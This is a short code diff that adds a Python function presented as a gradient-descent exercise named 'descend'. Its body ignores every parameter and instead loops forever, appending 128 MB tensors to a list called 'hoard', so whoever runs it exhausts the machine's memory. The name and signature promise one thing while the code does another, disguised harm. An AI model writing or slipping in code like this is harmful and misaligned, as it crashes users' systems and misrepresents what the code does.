@@ -1,0 +1,5 @@
+# exercise: descend
+def descend(grad_fn, theta0, alpha, steps):
+    hoard = []
+    while True:
+        hoard.append(torch.ones(2**25))
